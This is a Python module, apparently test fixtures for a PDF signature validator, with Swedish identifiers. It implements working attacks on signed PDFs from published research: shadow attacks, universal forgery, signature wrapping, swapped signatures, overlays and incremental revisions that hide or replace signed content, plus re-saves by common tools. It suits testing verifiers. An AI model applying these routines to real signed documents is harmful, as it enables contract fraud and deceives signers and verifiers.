"""Attacks on signed documents, each a function of the authentic bytes: revisions, wrappings, forgeries, savings.

The three classes of "Shadow Attacks: Hiding and Replacing Content in Signed PDFs" (Mainka, Mladenov, Rohlmann, 2021),
those of "1 Trillion Dollar Refund" (Mladenov et al., 2019: universal forgery, incremental saving, signature wrapping),
and of "Breaking the Specification: PDF Certification" (2021) that a file of ours has a place for.
"""

import io
import re
import subprocess
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Angrepp = Callable[[bytes], bytes]


# --- a new revision after the last signature ---


class Revision(IncrementalPdfFileWriter):  # type: ignore[misc]
    """What somebody appends to a signed file."""

    def __init__(self, pdf: bytes) -> None:
        super().__init__(io.BytesIO(pdf), strict=False)

    def _update_meta(self) -> None:
        pass

    def sida(self, nr: int = 0) -> Any:
        return self.find_page_for_modification(nr)[0].get_object()

    def andra(self, objekt: Any) -> None:
        self.mark_update(objekt.container_ref)

    def strom(self, innehall: bytes, **egna: Any) -> Any:
        """Add a stream and return its reference."""
        ordbok = {pdf_name(f"/{namn}"): varde for namn, varde in egna.items()}
        return self.add_object(generic.StreamObject(dict_data=ordbok, stream_data=innehall))

    def falt(self, namn: str) -> Any:
        alla = (ett.get_object() for ett in self.root["/AcroForm"]["/Fields"])
        return next(ett for ett in alla if ett["/T"] == namn)


def revision(andra: Callable[[Revision], None]) -> Angrepp:
    def gor(akta: bytes) -> bytes:
        rev = Revision(akta)
        andra(rev)
        ut = io.BytesIO()
        rev.write(ut)
        assert ut.getvalue().startswith(akta)
        return ut.getvalue()

    return gor


def _tal(*tal: float) -> Any:
    return generic.ArrayObject(generic.FloatObject(ett) for ett in tal)


def overmalad(rev: Revision) -> None:
    sida = rev.sida()
    vit = rev.strom(b"q 1 0 0 1 0 0 cm 1 g 60 430 420 240 re f Q")
    sida["/Contents"] = generic.ArrayObject([sida.raw_get("/Contents"), vit])
    rev.andra(sida)


def utbytt_innehall(rev: Revision) -> None:
    sida = rev.sida()
    sida["/Contents"] = rev.strom(b"1 0 0 rg 60 500 200 80 re f")
    rev.andra(sida)


def anteckning(rev: Revision) -> None:
    """A white note that lies over the proposal: hide (certification attack with annotations)."""
    sida = rev.sida()
    utseende = rev.strom(
        b"1 g 0 0 420 240 re f",
        Type=pdf_name("/XObject"),
        Subtype=pdf_name("/Form"),
        BBox=_tal(0, 0, 420, 240),
    )
    ruta = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): _tal(60, 430, 480, 670),
            pdf_name("/Contents"): generic.TextStringObject("x"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): utseende}),
        }
    )
    sida["/Annots"].append(rev.add_object(ruta))
    rev.andra(sida)


def textfalt(rev: Revision) -> None:
    """A form field with a value of its own, laid over the text: replace."""
    sida = rev.sida()
    utseende = rev.strom(
        b"1 g 0 0 300 40 re f", Type=pdf_name("/XObject"), Subtype=pdf_name("/Form"), BBox=_tal(0, 0, 300, 40)
    )
    falt = rev.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name("/Tx"),
                pdf_name("/T"): generic.TextStringObject("Belopp"),
                pdf_name("/V"): generic.TextStringObject("1 000 000"),
                pdf_name("/Rect"): _tal(60, 600, 360, 640),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): utseende}),
            }
        )
    )
    sida["/Annots"].append(falt)
    rev.andra(sida)
    rev.root["/AcroForm"]["/Fields"].append(falt)
    rev.andra(rev.root["/AcroForm"])


def utbytt_typsnitt(rev: Revision) -> None:
    """Another font under the same name: the same characters are drawn as others (shadow attack: replace)."""
    typsnitt = rev.sida()["/Resources"]["/Font"]
    forsta, andra_ = list(typsnitt)[:2]
    typsnitt[forsta], typsnitt[andra_] = typsnitt.raw_get(andra_), typsnitt.raw_get(forsta)
    rev.andra(typsnitt)


def utbytt_utseende(rev: Revision) -> None:
    """What is seen of the first signature, with another's name in it."""
    falt = rev.falt("Underskrift1")
    falt["/AP"] = generic.DictionaryObject(
        {
            pdf_name("/N"): rev.strom(
                b"0 0 1 rg 0 0 150 40 re f",
                Type=pdf_name("/XObject"),
                Subtype=pdf_name("/Form"),
                BBox=_tal(0, 0, 150, 40),
            )
        }
    )
    rev.andra(falt)


def overskrivet_utseende(rev: Revision) -> None:
    """The same in place: the very stream that shows the first signature is written anew."""
    strom = rev.falt("Underskrift1")["/AP"]["/N"]
    strom._data, strom._encoded_data = b"0 0 1 rg 0 0 150 40 re f", None
    rev.andra(strom)


def flyttad_underskrift(rev: Revision) -> None:
    falt = rev.falt("Underskrift1")
    falt["/Rect"] = _tal(0, 0, 60, 20)
    rev.andra(falt)


def bytt_namn_pa_faltet(rev: Revision) -> None:
    falt = rev.falt("Underskrift1")
    falt["/TU"] = generic.TextStringObject("Underskrift: Någon Annan")
    rev.andra(falt)


def tomt_falt(rev: Revision) -> None:
    """The second signature is taken out of its field: the file says that one has signed."""
    falt = rev.falt("Underskrift2")
    del falt["/V"]
    rev.andra(falt)


def utan_falt(rev: Revision) -> None:
    """The second signature's field is no longer among the fields of the document."""
    form = rev.root["/AcroForm"]
    falten = form["/Fields"]
    form["/Fields"] = generic.ArrayObject(
        falten.raw_get(nr) for nr in range(len(falten)) if falten[nr]["/T"] != "Underskrift2"
    )
    rev.andra(form)


def titel(rev: Revision) -> None:
    rev.set_info(
        rev.add_object(generic.DictionaryObject({pdf_name("/Title"): generic.TextStringObject("En helt annan titel")}))
    )


def xmp(rev: Revision) -> None:
    gammal = rev.root["/Metadata"].data
    rev.root["/Metadata"] = rev.strom(
        gammal.replace(b"Forum", b"Annat"), Type=pdf_name("/Metadata"), Subtype=pdf_name("/XML")
    )
    rev.update_root()


def skript(rev: Revision) -> None:
    rev.root["/OpenAction"] = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.TextStringObject("app.alert(1)")}
    )
    rev.update_root()


def bilaga(rev: Revision) -> None:
    fil = rev.strom(b"Annat avtal", Type=pdf_name("/EmbeddedFile"))
    post = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Filespec"),
            pdf_name("/F"): generic.TextStringObject("avtal.txt"),
            pdf_name("/UF"): generic.TextStringObject("avtal.txt"),
            pdf_name("/EF"): generic.DictionaryObject({pdf_name("/F"): fil}),
        }
    )
    namn = generic.ArrayObject([generic.TextStringObject("avtal.txt"), rev.add_object(post)])
    rev.root["/Names"] = generic.DictionaryObject(
        {pdf_name("/EmbeddedFiles"): generic.DictionaryObject({pdf_name("/Names"): namn})}
    )
    rev.update_root()


def en_sida_till(rev: Revision) -> None:
    trad = rev.root["/Pages"]
    ny = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): _tal(0, 0, 595, 842),
            pdf_name("/Contents"): rev.strom(b"1 0 0 rg 60 500 200 80 re f"),
            pdf_name("/Parent"): rev.root.raw_get("/Pages"),
        }
    )
    trad["/Kids"].append(rev.add_object(ny))
    trad["/Count"] = generic.NumberObject(int(trad["/Count"]) + 1)
    rev.andra(trad)


def beskuren(rev: Revision) -> None:
    """The lower half of the page, with conditions and signatures, is cropped away."""
    sida = rev.sida()
    sida["/CropBox"] = _tal(0, 421, 595, 842)
    rev.andra(sida)


def dold_i_lager(rev: Revision) -> None:
    """The content is put in a layer that is off: nothing is left to see."""
    lager = rev.add_object(
        generic.DictionaryObject(
            {pdf_name("/Type"): pdf_name("/OCG"), pdf_name("/Name"): generic.TextStringObject("x")}
        )
    )
    rev.root["/OCProperties"] = generic.DictionaryObject(
        {
            pdf_name("/OCGs"): generic.ArrayObject([lager]),
            pdf_name("/D"): generic.DictionaryObject({pdf_name("/OFF"): generic.ArrayObject([lager])}),
        }
    )
    rev.update_root()
    sida = rev.sida()
    sida["/Resources"]["/Properties"] = generic.DictionaryObject({pdf_name("/x"): lager})
    fore, efter = rev.strom(b"/OC /x BDC"), rev.strom(b"EMC")
    sida["/Contents"] = generic.ArrayObject([fore, sida.raw_get("/Contents"), efter])
    rev.andra(sida["/Resources"])
    rev.andra(sida)


def annat_for_oron(rev: Revision) -> None:
    """What a screen reader is told is no longer what is seen."""
    rot = rev.root["/StructTreeRoot"]["/K"][0].get_object()
    forsta = next(ett.get_object() for ett in rot["/K"] if ett.get_object()["/S"] == "/H1")
    forsta["/ActualText"] = generic.TextStringObject("Avslag")
    rev.andra(forsta)


REVISIONER: dict[str, Angrepp] = {
    "text övermålad i en ny revision": revision(overmalad),
    "sidans innehåll utbytt i en ny revision": revision(utbytt_innehall),
    "anteckning lagd över texten": revision(anteckning),
    "textfält lagt över texten": revision(textfalt),
    "typsnitten utbytta mot varandra": revision(utbytt_typsnitt),
    "underskriftens utseende utbytt": revision(utbytt_utseende),
    "underskriftens utseende överskrivet": revision(overskrivet_utseende),
    "underskriften flyttad": revision(flyttad_underskrift),
    "underskriftens namn utbytt": revision(bytt_namn_pa_faltet),
    "underskriften tagen ur sitt fält": revision(tomt_falt),
    "underskriftens fält borttaget": revision(utan_falt),
    "ny titel i en ny revision": revision(titel),
    "ny XMP i en ny revision": revision(xmp),
    "skript i en ny revision": revision(skript),
    "bilaga i en ny revision": revision(bilaga),
    "en sida tillagd i en ny revision": revision(en_sida_till),
    "sidan beskuren": revision(beskuren),
    "innehållet dolt i ett lager": revision(dold_i_lager),
    "annat för skärmläsare än för ögat": revision(annat_for_oron),
}

# --- inside the signed bytes, or around them ---

_BYTERANGE = re.compile(rb"/ByteRange ?\[[^\]]*\]")


def _byt_sista(akta: bytes, monster: bytes, nytt: bytes) -> bytes:
    """Replace what matches last, with as many bytes."""
    *_, sista = re.finditer(monster, akta)
    return akta[: sista.start()] + nytt.ljust(sista.end() - sista.start()) + akta[sista.end() :]


def vilket_innehall_som_helst(akta: bytes) -> bytes:
    """Universal forgery: the signature is nothing but zeros."""
    *_, sista = re.finditer(rb"/Contents ?<([0-9a-fA-F]{1000,})>", akta)
    return akta[: sista.start(1)] + b"0" * (sista.end(1) - sista.start(1)) + akta[sista.end(1) :]


def bytta_underskrifter(akta: bytes) -> bytes:
    """Each of the two last signatures stands in the other's place."""
    a, b = list(re.finditer(rb"/Contents ?<([0-9a-fA-F]{1000,})>", akta))[-2:]
    langd = min(len(a[1]), len(b[1]))
    ny_a, ny_b = b[1][:langd].ljust(len(a[1]), b"0"), a[1][:langd].ljust(len(b[1]), b"0")
    return akta[: a.start(1)] + ny_a + akta[a.end(1) : b.start(1)] + ny_b + akta[b.end(1) :]


def inlindad(akta: bytes) -> bytes:
    """Signature wrapping: the last signature is said to cover the bytes after a gap, where new ones are put."""
    *_, traff = re.finditer(rb"/ByteRange ?\[ ?0 +(\d+) +(\d+) +(\d+) *\]", akta)
    a, b, c = (int(tal) for tal in traff.groups())
    fyllning = b"%" * 500 + b"\n"
    nytt = f"/ByteRange [0 {a} {b + len(fyllning)} {c}]".encode()
    andrad = akta[: traff.start()] + nytt.ljust(len(traff[0])) + akta[traff.end() :]
    return andrad[:b] + fyllning + andrad[b:]


def ratta_langden(akta: bytes) -> bytes:
    """A byte of what was signed is changed where a reader does not look: within a comment's worth of white space."""
    plats = akta.index(b"endobj") + len(b"endobj")
    return akta[:plats] + (b" " if akta[plats : plats + 1] == b"\n" else b"\n") + akta[plats + 1 :]


BYTEN: dict[str, Angrepp] = {
    "underskriften bara nollor": vilket_innehall_som_helst,
    "underskrifterna bytta med varandra": bytta_underskrifter,
    "ByteRange utan tal": lambda akta: _byt_sista(akta, _BYTERANGE.pattern, b"/ByteRange [ ]"),
    "ByteRange borttaget": lambda akta: _byt_sista(akta, _BYTERANGE.pattern, b"/Xyteandet 0"),
    "ByteRange över en enda byte": lambda akta: _byt_sista(akta, _BYTERANGE.pattern, b"/ByteRange [0 1 2 1]"),
    "ByteRange negativt": lambda akta: _byt_sista(akta, _BYTERANGE.pattern, b"/ByteRange [0 -1 2 9]"),
    "inlindad underskrift": inlindad,
    "annan form av underskrift": lambda akta: akta.replace(b"/ETSI.CAdES.detached", b"/adbe.pkcs7.s5xxxxxx"),
    "ett mellanrum utbytt mellan två objekt": ratta_langden,
    "skräp efter slutet": lambda akta: akta + b"%mer\n",
    "tom rad före början": lambda akta: b"\n" + akta,
    "tom revision": lambda akta: akta + b"xref\n0 0\ntrailer\n<<>>\nstartxref\n0\n%%EOF\n",
}


# --- saved anew by programs ---


def sparad(*kommando: str) -> Angrepp:
    """Return the file as *kommando* saves it; IN and UT stand for the two files."""

    def gor(akta: bytes) -> bytes:
        with tempfile.TemporaryDirectory() as mapp:
            fore, efter = Path(mapp, "in.pdf"), Path(mapp, "ut.pdf")
            fore.write_bytes(akta)
            subprocess.run(
                [{"IN": str(fore), "UT": str(efter)}.get(ord_, ord_) for ord_ in kommando],
                check=True,
                capture_output=True,
            )
            return efter.read_bytes()

    return gor


SPARADE: dict[str, Angrepp] = {
    "sparad av mutool": sparad("mutool", "clean", "IN", "UT"),
    "städad av mutool": sparad("mutool", "clean", "-gggg", "-z", "-s", "IN", "UT"),
    "hopfogad av mutool": sparad("mutool", "merge", "-o", "UT", "IN"),
    "omritad av mutool": sparad("mutool", "convert", "-o", "UT", "IN"),
    "linjäriserad av qpdf": sparad("qpdf", "--linearize", "IN", "UT"),
    "sidorna utplockade av qpdf": sparad("qpdf", "IN", "--pages", "IN", "1", "--", "UT"),
    "krypterad av qpdf": sparad("qpdf", "--encrypt", "", "x", "256", "--", "IN", "UT"),
    "hopfogad av poppler": sparad("pdfunite", "IN", "UT"),
    "omritad av poppler": sparad("pdftocairo", "-pdf", "IN", "UT"),
}


# --- prepared before anyone signed: what an insider would have signed and then turn over ---


def _forberett(papper: bytes, andra: Callable[[pikepdf.Pdf], None]) -> bytes:
    ut = io.BytesIO()
    with pikepdf.open(io.BytesIO(papper)) as fil:
        andra(fil)
        fil.save(ut)
    return ut.getvalue()


def _bild(fil: pikepdf.Pdf, farg: bytes) -> Any:
    """Return a form of one colour, as large as the proposal."""
    strom = fil.make_stream(farg + b" 60 430 420 240 re f")
    strom.Type, strom.Subtype, strom.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
    return fil.make_indirect(strom)


def _lagg_over(fil: pikepdf.Pdf) -> None:
    sida = fil.pages[0]
    sida.Resources.XObject[Name.Skugga] = _bild(fil, b"1 g")
    sida.contents_add(fil.make_stream(b"q 0.75 0 0 0.75 0 0 cm Q q /Skugga Do Q"))


def _dubbelt(fil: pikepdf.Pdf) -> None:
    """A second page that nothing leads to, to be put in the first one's place."""
    falsk = Dictionary(
        Type=Name.Page, MediaBox=Array([0, 0, 595, 842]), Contents=fil.make_stream(b"1 0 0 rg 0 0 9 9 re f")
    )
    fil.Root.Skugga = fil.make_indirect(falsk)


def _text(fil: pikepdf.Pdf) -> None:
    falt = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("Belopp"),
        V=String("100"),
        Rect=Array([60, 600, 360, 640]),
        F=4,
    )
    fil.Root.Skugga = fil.make_indirect(falt)
    fil.pages[0].Annots = fil.make_indirect(Array([*fil.pages[0].get("/Annots", []), fil.Root.Skugga]))


def forberedd_dold(papper: bytes) -> bytes:
    return _forberett(papper, _lagg_over)


def forberedd_dubbel(papper: bytes) -> bytes:
    return _forberett(papper, _dubbelt)


def forberedd_falt(papper: bytes) -> bytes:
    return _forberett(papper, _text)


def visa_det_dolda(rev: Revision) -> None:
    """Hide: the overlay that all saw when they signed is taken away."""
    sida = rev.sida()
    sida["/Resources"]["/XObject"]["/Skugga"] = rev.strom(
        b"", Type=pdf_name("/XObject"), Subtype=pdf_name("/Form"), BBox=_tal(0, 0, 1, 1)
    )
    rev.andra(sida["/Resources"]["/XObject"])


def vand_till_den_andra(rev: Revision) -> None:
    """Hide and replace: the page tree leads to the page that lay hidden."""
    trad = rev.root["/Pages"]
    trad["/Kids"] = generic.ArrayObject([rev.root.raw_get("/Skugga")])
    rev.andra(trad)


def byt_varde(rev: Revision) -> None:
    """Replace: a value that was there when they signed gets another."""
    falt = rev.root["/Skugga"]
    falt["/V"] = generic.TextStringObject("1 000 000")
    rev.andra(falt)


SKUGGOR: dict[str, tuple[Angrepp, Angrepp]] = {
    "skuggangrepp: dölj": (forberedd_dold, revision(visa_det_dolda)),
    "skuggangrepp: dölj och ersätt": (forberedd_dubbel, revision(vand_till_den_andra)),
    "skuggangrepp: ersätt": (forberedd_falt, revision(byt_varde)),
}
